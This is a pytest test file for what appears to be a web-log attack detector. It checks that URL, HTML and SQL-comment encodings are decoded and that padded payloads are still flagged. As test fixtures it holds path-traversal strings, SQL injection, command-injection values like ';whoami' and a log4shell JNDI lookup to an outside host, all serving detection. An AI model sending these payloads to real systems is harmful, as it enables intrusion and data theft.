"""Decoding and the lazy per-event view that rules read."""

from __future__ import annotations

import random
import re

import pytest

from lwsyslog.config import MAX_LINE_BYTES, load_config
from lwsyslog.events import AccessEvent, ErrorEvent, Event, Origin, reader
from lwsyslog.normalize import (
    MAX_DECODED_CHARS,
    TEXT_FIELDS,
    EventView,
    decode,
    raw_getter,
    raw_source,
    undecoded,
)
from lwsyslog.percent import _run_text, code_point, escaped_bytes_text
from lwsyslog.pipeline import Pipeline

ORIGIN = Origin("test.log", 1)


def access(target: str = "/", **fields: str) -> AccessEvent:
    return AccessEvent(origin=ORIGIN, raw="", target=target, **fields)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("encoded", "plain"),
    [
        ("%2e%2e%2fetc%2fpasswd", "../etc/passwd"),
        ("%252e%252e%252fetc", "../etc"),
        ("%25252e%25252e%25252f", "../"),
        ("%u002e%u002e%u2215x", "../x"),
        ("%uff0e%uff0e/", "../"),
        ("%c0%ae%c0%ae%c0%afetc", "../etc"),
        ("%e0%80%ae%e0%80%ae%e0%80%af", "../"),
        ("%f0%80%80%ae", "."),
        ("..%c1%1c..", "../.."),
        ("..%5c..%5cboot.ini", "../../boot.ini"),
        ("..\\..\\win.ini", "../../win.ini"),
        ("/etc/passwd%00.jpg", "/etc/passwd.jpg"),
        ("&#x3c;script&#x3e;", "<script>"),
        ("&lt;svg&gt;", "<svg>"),
        ("%26lt%3Bimg%26gt%3B", "<img>"),
        # The comments read as SQL reads them, then the text with only the marks replaced;
        # empty comments give one text, read once.
        ("1/**/UNION/**/SELECT", "1 UNION SELECT"),
        ("1/**/UNION/**/SELECT/**/", "1 UNION SELECT"),
        ("1/*!50000UNION*//*!50000SELECT*/", "1 UNION SELECT\n\uffff1 !50000UNION !50000SELECT "),
        ("a%09%09b%20%20c", "a b c"),
        ("caf%C3%A9", "café"),
    ],
)
def test_decode_undoes_encodings(encoded: str, plain: str) -> None:
    assert decode(encoded) == plain


def test_percent_decoding_stops_after_three_rounds() -> None:
    assert decode("%2525252e") == "%2e"


def test_line_breaks_survive_as_one_newline() -> None:
    assert decode("127.0.0.1%0d%0a%0aid") == "127.0.0.1\nid"
    assert decode("a \t\r\n \u2028 b\xa0\u3000c") == "a\nb c"


def test_a_shell_reads_a_backslash_before_a_letter_alike_however_dense() -> None:
    # Dense backslashes take str.replace per letter, sparse ones one substitution.
    assert decode("w\\hoami;" * 2000, shell=True) == "whoami;" * 2000
    assert decode("x" * 8000 + "w\\hoami;", shell=True) == "x" * 8000 + "whoami;"
    assert decode("\\\\a" * 2000, shell=True) == "/a" * 2000
    assert decode("\\1\\q" * 2000, shell=True) == "/1q" * 2000
    assert decode("x" * 8000 + "\\1\\q", shell=True) == "x" * 8000 + "/1q"


def test_ascii_white_space_in_other_text_folds_as_in_ascii_text() -> None:
    # Text beyond ASCII with ASCII blanks only takes a shorter way than text with NBSPs.
    assert decode("caf\xe9\t\x1c b\r\x0b\x0cc  d") == "caf\xe9 b\nc d"
    assert decode("caf\xe9\t\xa0b\r\u2028c") == "caf\xe9 b\nc"
    assert decode("caf\xe9/**/\t/**/b") == "caf\xe9 b"


def test_a_comment_of_any_length_is_one_space() -> None:
    # A padded comment no longer hides the keywords around it from the rules.
    assert decode("1 union/*" + "x" * 300 + "*/select").startswith("1 union select\n\uffff")
    assert (
        decode("a/* open */b /* never closed") == "a b /* never closed\n\uffffa open b never closed"
    )


def test_plus_is_a_space_only_in_form_data() -> None:
    assert decode("union+select", form=True) == "union select"
    assert decode("/c++/guide") == "/c++/guide"
    assert decode("a%2Bb", form=True) == "a+b"


def test_bytes_that_are_not_utf8_read_as_latin1() -> None:
    assert decode("%ff%fe%AD") == "\xff\xfe\xad"
    assert decode("1%a0or%a01") == "1 or 1"


def test_text_needing_no_work_is_returned_unchanged() -> None:
    text = "/static/css/site.min.css"
    assert decode(text) is text


def test_decoding_a_huge_value_is_bounded() -> None:
    huge = "%41" * (10 * 1024 * 1024 // 3)
    assert len(decode(huge)) <= MAX_DECODED_CHARS


def test_view_splits_target_before_decoding() -> None:
    view = EventView(access("/a%3fb/c?x=%3Cb%3E&y=1+2"))
    assert view.decoded("path") == "/a?b/c"
    assert view.decoded("query") == "x=<b>&y=1 2"
    assert view.decoded("target") == "/a?b/c?x=<b>&y=1 2"


def test_view_lowercases_on_demand_and_keeps_raw() -> None:
    view = EventView(access("/P?Q=%55NION", user_agent="SQLMap/1.7"))
    assert view.raw("target") == "/P?Q=%55NION"
    assert view.lower("target") == "/p?q=union"
    assert view.lower("user_agent") == "sqlmap/1.7"


def test_view_decodes_referer_as_url_and_cookie_as_text() -> None:
    view = EventView(access(referer="http://x/?q=a+b%27", cookie="a=1+1; b=%3Cx%3E"))
    assert view.decoded("referer") == "http://x/?q=a b'"
    assert view.decoded("cookie") == "a=1+1; b=<x>"


def test_the_shell_view_drops_a_backslash_before_a_letter_and_the_decoded_one_does_not() -> None:
    view = EventView(
        access("/a%5Cb/x?ip=1;w\\hoami&f=..%5C..%5Cwin.ini&q=a+%5C%5Cb", cookie="x=i%5Cd")
    )
    assert view.shell("target") == "/ab/x?ip=1;whoami&f=../..win.ini&q=a /b"
    assert view.shell("query") == "ip=1;whoami&f=../..win.ini&q=a /b"
    assert view.shell("path") == "/ab/x"
    assert view.shell("cookie") == "x=id"
    # What the path rules read is unchanged.
    assert view.lower("target") == "/a/b/x?ip=1;w/hoami&f=../../win.ini&q=a //b"
    assert decode("..%5Cwin.ini") == "../win.ini"
    assert decode("..%5Cwin.ini", shell=True) == "..win.ini"


def test_missing_fields_are_empty_strings() -> None:
    error = ErrorEvent(origin=ORIGIN, raw="", message="AH00558: could not determine name")
    view = EventView(error)
    assert view.lower("target") == ""
    assert view.lower("user_agent") == ""
    assert EventView(access()).lower("message") == ""


def test_error_path_is_the_file_the_message_names() -> None:
    error = ErrorEvent(origin=ORIGIN, raw="", message="File does not exist: /var/www/html/.env")
    assert EventView(error).decoded("path") == "/var/www/html/.env"
    script = ErrorEvent(
        origin=ORIGIN, raw="", message="script '/usr/lib/cgi-bin/x.cgi' not found or unable to stat"
    )
    assert EventView(script).decoded("path") == "/usr/lib/cgi-bin/x.cgi"


@pytest.mark.parametrize(
    ("message", "path"),
    [
        ('open() "/srv/www/a b.php" failed (2: No such file or directory)', "/srv/www/a b.php"),
        ('"/srv/www/x/index.html" is not found (2: No such file)', "/srv/www/x/index.html"),
        ('directory index of "/srv/www/x/" is forbidden', "/srv/www/x/"),
        ("Cannot serve directory /var/www/x/: No matching DirectoryIndex", "/var/www/x/"),
        ("client denied by server configuration: '/var/www/y", "/var/www/y"),
        # Bytes the IIS Unicode traversal leaves in a path (an overlong "\\" read as 0x1c) are
        # part of it, not a space: the path goes on to what the attack asks for.
        (
            "File does not exist: /var/www/html/scripts/..\xc1\x1c../winnt/system32/cmd.exe",
            "/var/www/html/scripts/..\xc1\x1c../winnt/system32/cmd.exe",
        ),
    ],
)
def test_error_path_is_cut_from_each_message_shape(message: str, path: str) -> None:
    error = ErrorEvent(origin=ORIGIN, raw="", message=message)
    assert EventView(error).raw("path") == path


def test_unknown_field_is_an_error() -> None:
    with pytest.raises(KeyError):
        EventView(access()).lower("no-such-field")


@pytest.mark.parametrize("field", sorted(TEXT_FIELDS))
def test_raw_getter_agrees_with_the_view(field: str) -> None:
    event = access("/x/.env?a=1", user_agent="UA", referer="R", cookie="C", method="GET")
    error = ErrorEvent(origin=ORIGIN, raw="", message="File does not exist: /srv/y", code="AH1")
    for log, item in (("access", event), ("error", error)):
        assert raw_getter(log, field)(item) == EventView(item).raw(field)


@pytest.mark.parametrize("field", sorted(TEXT_FIELDS))
def test_a_field_is_read_from_its_source_alone(field: str) -> None:
    # The Detector caches a field's verdicts by its source's value: the source must be all
    # the field depends on.
    event = access(
        "/x/.env?a=1", user_agent="UA", referer="R", cookie="C", method="GET", protocol="HTTP/1.1"
    )
    event.request_line = "GET /x/.env?a=1 HTTP/1.1"
    event.extra = {"header:x-api-version": "2.1", "trailing": "1234"}
    error = ErrorEvent(
        origin=ORIGIN,
        raw="",
        message="File does not exist: /srv/y",
        code="AH00128",
        module="core",
        referer="R",
    )
    cases: tuple[tuple[str, Event, Event], ...] = (
        ("access", event, AccessEvent(origin=ORIGIN, raw="")),
        ("error", error, ErrorEvent(origin=ORIGIN, raw="")),
    )
    for log, item, blank in cases:
        source = raw_source(log, field)
        value = raw_getter(log, field)(item)
        if source == "headers":
            # Read from the event's extra (events.request_headers), not an attribute of its own.
            blank.extra = dict(item.extra)
            assert raw_getter(log, field)(blank) == value == "2.1\n1234"
        elif source:
            setattr(blank, source, getattr(item, source))
            assert raw_getter(log, field)(blank) == value
        else:
            assert value == ""
    assert raw_source("access", "query") == raw_source("access", "path") == "target"
    assert raw_source("error", "path") == "message"


# Pieces that each decoding step keys on, and near misses that it leaves alone.
_PIECES = (
    "a", "Z", "/", "?", "=", "%", "%4", "%41", "%zz", "%u00", "%u0041", "&", "&amp;", "&amp",
    "&#", "&#6", "&#x4", "+", "*", "/*", "*/", "/*!1", " ", "  ", "\t", "\n", "\\", "\x00",
    "\xa0", "\u3000", "é", ";", "~", "-",
)  # fmt: skip


def test_text_said_to_need_no_decoding_is_left_as_it_is_by_every_decoder() -> None:
    rng = random.Random(10)
    said = 0
    for _ in range(20_000):
        text = "".join(rng.choice(_PIECES) for _ in range(rng.randint(0, 12)))
        if not undecoded(text):
            continue
        said += 1
        assert decode(text) == text == decode(text, form=True)
        view = EventView(access(text, referer=text, user_agent=text))
        cut = text.find("?")
        parts = (text, "") if cut < 0 else (text[:cut], text[cut + 1 :])
        assert (decode(parts[0]), decode(parts[1], form=True)) == parts
        assert (view.decoded("path"), view.decoded("query")) == parts
        assert view.decoded("target") == view.decoded("referer") == text
        assert view.decoded("user_agent") == text
    assert said > 2_000  # the check is not vacuous


def _run_text_reference(run: str) -> str:
    """The escape-by-escape decoding of one run (what ``_run_text`` did before it worked in
    bulk): %XX bytes pending until a %uXXXX, which is one code point."""
    pieces: list[str] = []
    pending = bytearray()
    for part in run.split("%")[1:]:
        if part[0] in "uU":
            if pending:
                pieces.append(escaped_bytes_text(bytes(pending)))
                pending.clear()
            pieces.append(code_point(int(part[1:], 16)))
        else:
            pending.append(int(part, 16))
    if pending:
        pieces.append(escaped_bytes_text(bytes(pending)))
    return "".join(pieces)


def test_percent_runs_with_wide_escapes_decode_as_escape_by_escape() -> None:
    tokens = ["%41", "%c0", "%af", "%e2%80%a8", "%ff", "%u0041", "%U002e", "%uff0e", "%uD800",
              "%u2215", "%c3%a9", "%00", "%20", "%uFEFF", "%e0%80%af"]  # fmt: skip
    rng = random.Random(7)
    for _ in range(3000):
        run = "".join(rng.choice(tokens) for _ in range(rng.randrange(1, 12)))
        assert _run_text(run) == _run_text_reference(run), run


def test_runs_of_white_space_of_any_length_fold_to_one() -> None:
    # Runs up to 60,000 long, mixed with text: one space, or one line break when the run
    # holds one, whatever the run's length (the folding takes long runs in big steps).
    rng = random.Random(7)
    pieces = ["a", "b c", " ", "\n", "\t", "\r\n", "\n" * 17, " " * 33, "\n \n" * 50]
    for _ in range(2000):
        text = "x" + "".join(rng.choice(pieces) for _ in range(rng.randint(1, 30))) + "y"
        expected = re.sub(r"\s+", lambda run: "\n" if "\n" in run.group() else " ", text)
        assert decode(text) == expected, repr(text)
    assert decode("a" + "\n" * 60_000 + "b") == "a\nb"
    assert decode("a" + " " * 60_001 + "b") == "a b"


def _three_searches(text: str) -> bool:
    """undecoded() as it was written before its searches were one (the reference)."""
    spaces = r"\t\n\x0b\x0c\r\x1c-\x1f\x85\xa0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000"
    if len(text) > MAX_DECODED_CHARS or "  " in text:
        return False
    if re.search(rf"[%&\\\x00+*{spaces}]", text) is None:
        return True
    return (
        re.search(rf"[%\\\x00+{spaces}]", text) is None
        and "/*" not in text
        and text.count("&") <= 16
        and re.search(r"&(?:#[0-9]|#[xX][0-9a-fA-F]|[a-zA-Z][a-zA-Z0-9]{1,30};)", text) is None
    )


def test_undecoded_says_what_its_three_searches_said() -> None:
    rng = random.Random(11)
    texts = ["&" * 16, "&" * 17, "a&b" * 17, "/a/b?c=1&d=2", "/*", "/ *", "*/", "&amp;"]
    for _ in range(20_000):
        texts.append("".join(rng.choice(_PIECES) for _ in range(rng.randint(0, 24))))
    assert [undecoded(text) for text in texts] == [_three_searches(text) for text in texts]


def test_the_compiled_readers_read_what_attrgetter_reads() -> None:
    access_event = access(
        "/a?b=1", user_agent="curl/8", referer="https://r/", cookie="c=1", method="POST"
    )
    access_event.status = 404
    error_event = ErrorEvent(origin=ORIGIN, raw="", code="AH00128", message="m", referer="r")
    for event in (access_event, error_event):
        for attribute in (
            "target", "user_agent", "referer", "cookie", "status", "method", "cut",
            "message", "code", "client_ip", "time",
        ):  # fmt: skip
            if not hasattr(event, attribute):
                continue
            read = reader(event.log, attribute)
            assert read(event) == getattr(event, attribute), (event.log, attribute)
    assert reader("access", "target") is not reader("access", "client_ip")


def test_no_field_of_a_line_read_whole_is_cut_by_the_decoder() -> None:
    assert MAX_DECODED_CHARS >= MAX_LINE_BYTES


@pytest.mark.parametrize(
    ("target", "user_agent", "category"),
    [
        ("/", "a" * 70_000 + " ${jndi:ldap://198.51.100.9/a}", "log4shell"),
        ("/" + "a" * 70_000 + "/../../../../etc/passwd", "Mozilla/5.0", "path-traversal"),
        (
            "/p?" + "a=b&" * 17_000 + "id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            "x",
            "sqli",
        ),
    ],
    ids=["user-agent", "path", "query"],
)
def test_a_payload_padded_past_64_kib_is_still_found(
    target: str, user_agent: str, category: str
) -> None:
    # Under the default max_line_bytes (128 KiB) the line is read whole: every byte is scanned.
    line = (
        f'203.0.113.5 - - [23/Nov/2026:14:00:00 +0000] "GET {target} HTTP/1.1" 200 5 "-" '
        f'"{user_agent}"'
    )
    result = Pipeline(load_config([])).process(line, ORIGIN)
    assert category in {c for f in result.findings for c in f.categories}
